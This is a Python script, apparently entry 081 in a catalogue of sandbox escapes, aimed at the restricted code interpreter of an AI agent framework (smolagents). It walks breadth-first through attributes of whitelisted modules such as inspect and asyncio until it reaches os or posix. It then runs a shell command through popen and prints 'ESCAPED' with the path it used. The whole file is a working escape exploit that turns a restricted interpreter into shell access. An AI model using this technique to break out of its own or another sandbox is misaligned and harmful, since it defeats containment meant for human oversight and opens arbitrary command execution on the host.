# escape: 081
# technique: breadth-first walk over module attributes from the whitelisted modules until os/posix/subprocess is met
# family: globals
# goal: exec
# first-seen: smolagents 2025 (doctest.inspect.os, asyncio.base_events.subprocess)
import types
q, seen = [], set()
for n in 'json random logging enum typing dataclasses statistics textwrap pprint copy string collections asyncio heapq inspect decimal datetime re functools contextlib uuid secrets fractions csv'.split():
    try: q.append((n, __import__(n)))
    except Exception: pass
while q:
    p, m = q.pop(0)
    if id(m) in seen: continue
    seen.add(id(m))
    for k, v in list(vars(m).items()):
        if isinstance(v, types.ModuleType):
            if hasattr(v, 'popen') and hasattr(v, 'getpid'):
                if v.popen('echo b').read() == 'b\n': print('ESCAPED:%s.%s' % (p, k)); raise SystemExit
            q.append((p + '.' + k, v))
